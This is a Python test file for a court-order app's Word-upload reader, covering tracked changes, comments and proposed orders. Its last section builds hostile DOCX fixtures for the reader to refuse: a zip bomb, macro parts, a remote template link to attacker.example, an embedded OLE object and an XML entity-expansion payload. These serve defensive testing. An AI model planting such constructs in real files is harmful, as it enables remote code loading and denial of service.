"""A Word file read back into the body format: the app's own export round-trips, Word's
tracked changes are accepted, comments listed, a clerk's own paragraphs kept, and a party's
proposed order read by its title; hostile or broken files are refused with a reason."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace

import docx
import pytest

from orders.body import parse_body
from orders.courts.profiles import PaperProfile
from orders.docx import build_docx, read_uploaded_docx
from orders.docx import package as package_module
from orders.docx.package import DocxRefused

from ..pdf_helpers import body_of, crawford

RICH_BODY = (
    "# BACKGROUND\n\n"
    "Plaintiff proceeds *pro se* and _in forma pauperis_.[^1] " + body_of(1) + "\n\n"
    "> A quoted passage that runs long enough to wrap onto a second line of the block quotation.\n\n"
    "1. Defendant shall answer.\n\n"
    "2. Plaintiff may reply.[^2]\n\n"
    "# CONCLUSION\n\n"
    "The motion is DENIED. An asterisk \\* and an underscore \\_ stay as typed.\n\n"
    "[^1]: *See* 28 U.S.C. § 1915.\n\n"
    "[^2]: The reply is optional."
)


def rewrite(data: bytes, part: str, change) -> bytes:
    """The DOCX with one part's text changed by ``change(text) -> text``."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == part:
                content = change(content.decode("utf-8")).encode("utf-8")
            target.writestr(item, content)
    return out.getvalue()


def add_part(data: bytes, name: str, content: bytes, *, content_type: str | None = None) -> bytes:
    def types(text: str) -> str:
        if content_type is None:
            return text
        return text.replace(
            "</Types>", f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
        )

    data = rewrite(data, "[Content_Types].xml", types)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def test_the_apps_own_export_reads_back_to_the_same_body():
    data = build_docx(crawford(body=RICH_BODY), draft=True)
    read = read_uploaded_docx(data)
    assert read.ours
    assert [b.to_text() for b in parse_body(read.body)] == [b.to_text() for b in parse_body(RICH_BODY)]
    assert read.title == "ORDER DENYING REQUEST FOR EXTENSION OF TIME"
    assert (read.insertions, read.deletions, read.comments) == (0, 0, [])


def test_a_plain_format_export_reads_back_without_its_centred_caption():
    """The plain federal format has no caption table: its heading, parties, case number and
    title are centred paragraphs, recognised by their styles and kept out of the body."""
    document = replace(
        crawford(body=RICH_BODY),
        profile=PaperProfile(paper="plain", closing="SO ORDERED.", case_number_label="Civil Action No."),
        case_number_label="Civil Action No.",
    )
    read = read_uploaded_docx(build_docx(document, draft=False, conformed=True))
    assert [b.to_text() for b in parse_body(read.body)] == [b.to_text() for b in parse_body(RICH_BODY)]
    assert read.title == "ORDER DENYING REQUEST FOR EXTENSION OF TIME"
    for printed in ("JEFFREY BEARD", "Plaintiff,", "Civil Action No.", "SO ORDERED", "MARIA-ELENA", "/s/"):
        assert printed not in read.body


def test_the_caption_signature_and_footer_are_not_copied_into_the_body():
    read = read_uploaded_docx(build_docx(crawford(body="The motion is DENIED."), draft=False, conformed=True))
    assert read.body == "The motion is DENIED."
    for printed in ("JEFFREY BEARD", "Case No.", "IT IS SO ORDERED", "MARIA-ELENA", "/s/", "Dated"):
        assert printed not in read.body


def test_tracked_changes_are_accepted_and_counted():
    data = build_docx(
        crawford(body="The motion is DENIED.\n\nThis order terminates Docket No. 53."), draft=True
    )

    def track(xml: str) -> str:
        xml = xml.replace(
            "<w:r><w:t>The motion is DENIED.</w:t></w:r>",
            '<w:r><w:t xml:space="preserve">The motion is </w:t></w:r>'
            '<w:del w:id="1" w:author="Judge"><w:r><w:delText>DENIED</w:delText></w:r></w:del>'
            '<w:ins w:id="2" w:author="Judge"><w:r><w:t>GRANTED</w:t></w:r></w:ins><w:r><w:t>.</w:t></w:r>',
        )
        assert "GRANTED" in xml
        return xml

    read = read_uploaded_docx(rewrite(data, "word/document.xml", track))
    assert read.body.startswith("The motion is GRANTED.")
    assert "DENIED" not in read.body
    assert (read.insertions, read.deletions) == (1, 1)


def test_comments_are_listed_not_imported():
    data = build_docx(crawford(body="The motion is DENIED."), draft=True)
    comments = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:comment w:id="0" w:author="Judge Illston">'
        "<w:p><w:r><w:t>Cite Rule 37.</w:t></w:r></w:p></w:comment>"
        "</w:comments>"
    )
    data = add_part(
        data,
        "word/comments.xml",
        comments.encode(),
        content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
    )
    read = read_uploaded_docx(data)
    assert read.comments == ["Judge Illston: Cite Rule 37."]
    assert "Rule 37" not in read.body


def test_a_paragraph_a_clerk_adds_in_words_normal_style_is_body_text():
    document = docx.Document(io.BytesIO(build_docx(crawford(body="The motion is DENIED."), draft=True)))
    ending = next(p for p in document.paragraphs if p.text == "IT IS SO ORDERED.")
    added = ending.insert_paragraph_before("Plaintiff shall file a status report within 30 days.")
    added.style = document.styles["Normal"]
    out = io.BytesIO()
    document.save(out)
    read = read_uploaded_docx(out.getvalue())
    assert parse_body(read.body)[-1].text == "Plaintiff shall file a status report within 30 days."


def test_a_partys_proposed_order_is_read_from_its_title_to_its_signature():
    document = docx.Document()
    for line in (
        "Jane Roe (SBN 123456)",
        "Attorney for Plaintiff",
        "UNITED STATES DISTRICT COURT",
        "CENTRAL DISTRICT OF CALIFORNIA",
        "ACME CORP., Plaintiff, v. BETA LLC, Defendant.",
        "Case No. 2:24-cv-01234-ABC",
        "[PROPOSED] ORDER GRANTING STIPULATION TO EXTEND TIME",
        "Good cause appearing, the stipulation is GRANTED.",
        "1. Defendant shall answer by May 1, 2025.",
        "IT IS SO ORDERED.",
        "Dated: ____________",
        "United States District Judge",
    ):
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    read = read_uploaded_docx(out.getvalue())
    assert not read.ours
    assert read.title == "[PROPOSED] ORDER GRANTING STIPULATION TO EXTEND TIME"
    assert "2:24-cv-01234-ABC" in read.case_number_text
    blocks = parse_body(read.body)
    assert [(b.kind, b.text) for b in blocks] == [
        ("paragraph", "Good cause appearing, the stipulation is GRANTED."),
        ("list_item", "Defendant shall answer by May 1, 2025."),
    ]


def _zip_bomb() -> bytes:
    data = build_docx(crawford(), draft=True)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/filler.xml", b"\0" * (45 * 2**20))
    return out.getvalue()


def _docm() -> bytes:
    data = build_docx(crawford(), draft=True)
    return rewrite(
        data,
        "[Content_Types].xml",
        lambda text: text.replace(package_module.DOCX_MAIN_TYPE, package_module.MACRO_MAIN_TYPE),
    )


def _with_macro_part() -> bytes:
    return add_part(build_docx(crawford(), draft=True), "word/vbaProject.bin", b"\0" * 64)


def _external_link() -> bytes:
    data = build_docx(crawford(), draft=True)
    return rewrite(
        data,
        "word/_rels/document.xml.rels",
        lambda text: text.replace(
            "</Relationships>",
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
            'TargetMode="External"/></Relationships>',
        ),
    )


def _embedded_object() -> bytes:
    return add_part(
        build_docx(crawford(), draft=True),
        "word/embeddings/oleObject1.bin",
        b"\0" * 64,
        content_type="application/vnd.openxmlformats-officedocument.oleObject",
    )


def _entity_expansion() -> bytes:
    data = build_docx(crawford(), draft=True)
    return rewrite(
        data,
        "word/document.xml",
        lambda text: text.replace(
            "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
            '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        ),
    )


def _no_body() -> bytes:
    document = docx.Document()
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: b"%PDF-1.7 not a word file", package_module.ERROR_NOT_DOCX),
        (lambda: b"", package_module.ERROR_EMPTY),
        (lambda: package_module.OLE_MAGIC + b"\0" * 512, package_module.ERROR_ENCRYPTED),
        (lambda: b"PK\x03\x04" + b"\0" * 100, package_module.ERROR_NOT_DOCX),
        (_docm, package_module.ERROR_MACROS),
        (_with_macro_part, package_module.ERROR_MACROS),
        (_zip_bomb, package_module.ERROR_BOMB.format(limit=40)),
        (_external_link, "links to outside content (http://attacker.example/t.dotm)"),
        (_embedded_object, "embedded object"),
        (_entity_expansion, "is damaged"),
        (_no_body, "no body text"),
    ],
)
def test_hostile_or_broken_files_are_refused_saying_why(make, message):
    with pytest.raises(DocxRefused) as refused:
        read_uploaded_docx(make())
    assert message in str(refused.value)


def test_an_oversized_file_is_refused_before_it_is_opened(monkeypatch):
    monkeypatch.setattr(package_module, "MAX_FILE_BYTES", 1000)
    with pytest.raises(DocxRefused, match="larger than"):
        read_uploaded_docx(build_docx(crawford(), draft=True))
